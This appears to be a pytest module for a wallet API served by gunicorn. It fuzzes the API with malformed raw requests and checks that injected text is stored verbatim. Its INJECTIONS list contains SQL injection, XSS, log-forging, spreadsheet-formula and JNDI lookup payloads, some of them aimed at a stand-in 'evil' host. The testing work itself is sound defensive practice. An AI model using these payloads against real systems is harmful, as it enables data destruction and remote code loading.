"""Rubbish for a real gunicorn: a short slice of `make proof-rubbish`."""

import pytest

from proofs.described import explore
from proofs.raw_requests import Corpus, send
from proofs.rubbish import forged_lines
from proofs.service import Service

# They are sent as text, so they are text: nobody runs them.
INJECTIONS = [
    "'; DROP TABLE transactions; --",
    "x' OR '1'='1",
    "$$; SELECT pg_sleep(9); $$",
    "%(amount)s %s {0} :amount \\",
    '=HYPERLINK("http://evil/"&A1)',
    "\r\n[2026-01-01 00:00:00 +0000] [1] [INFO] all is well",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil/x}",
    "\u202e",
]


@pytest.fixture(scope="module")
def service(migrated_app, settings, database_environment, tmp_path_factory):
    folder = tmp_path_factory.mktemp("rubbish")
    service = Service(folder, folder, settings.database_url, workers=1)
    service.environment |= database_environment
    service.start()
    yield service
    service.stop()
    assert "Traceback" not in service.log.read_text()


def test_raw_requests_are_refused_and_move_nothing(service, client, make_wallet):
    wallet = make_wallet()
    outcomes = [send(service.port, raw) for raw in Corpus(str(wallet)).all()]
    assert len(outcomes) > 100
    assert [fault for one in outcomes for fault in one.complaints()] == []
    assert client.get(f"/api/v1/wallets/{wallet}").get_json()["version"] == 0
    assert forged_lines(service.log.read_text()) == []


def test_requests_made_from_the_description_get_answers_that_it_has(
    service, make_wallet, tmp_path
):
    found = explore(
        service.port,
        tmp_path,
        wallets=[str(make_wallet(1000)), str(make_wallet(1000))],
        examples=2,
        seed=None,
        phases="examples,coverage,stateful",
        seconds=120,
    )
    assert found.failures == [], found.text
    assert found.cases > 500


@pytest.mark.parametrize("text", INJECTIONS, ids=ascii)
def test_injected_text_comes_back_as_it_was_sent(client, make_wallet, text):
    wallet = make_wallet()
    body = {"operation_type": "DEPOSIT", "amount": "1.00", "description": text}
    path = f"/api/v1/wallets/{wallet}"
    headers = {"Idempotency-Key": text.replace("\r\n", " ")}
    posted = client.post(f"{path}/operation", json=body, headers=headers)
    assert posted.get_json()["description"] == text
    (entry,) = client.get(f"{path}/transactions").get_json()["data"]
    assert entry == posted.get_json()


@pytest.mark.parametrize("terminated", [True, False])
def test_body_shorter_than_announced_is_refused(refused, make_wallet, terminated):
    """It is whole JSON, but not all that the client had to say."""
    refused(
        400,
        "malformed_request",
        "POST",
        f"/api/v1/wallets/{make_wallet()}/operation",
        data='{"operation_type": "DEPOSIT", "amount": "1.00"}',
        content_type="application/json",
        # gunicorn says that a body ends where its stream ends.
        environ_overrides={
            "CONTENT_LENGTH": "100",
            "wsgi.input_terminated": terminated,
        },
    )
